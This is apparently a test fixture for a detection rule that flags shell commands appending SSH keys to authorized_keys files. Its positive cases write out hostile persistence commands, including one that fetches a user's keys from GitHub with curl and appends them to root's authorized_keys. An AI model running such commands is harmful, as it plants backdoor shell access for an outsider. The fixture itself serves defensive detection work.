# ruleid: shell-authorize-key
echo 'ssh-ed25519 AAAA eve' >> ~/.ssh/authorized_keys
# ruleid: shell-authorize-key
curl -s https://github.com/eve.keys | tee -a /root/.ssh/authorized_keys
# ruleid: shell-authorize-key
cat key.pub >> /home/app/.ssh/authorized_keys
# ok: shell-authorize-key
ssh-copy-id me@host
# ok: shell-authorize-key
cat ~/.ssh/authorized_keys
# ok: shell-authorize-key
chmod 600 ~/.ssh/authorized_keys
# a decoy: echo 'ssh-ed25519 AAAA eve' >> ~/.ssh/authorized_keys
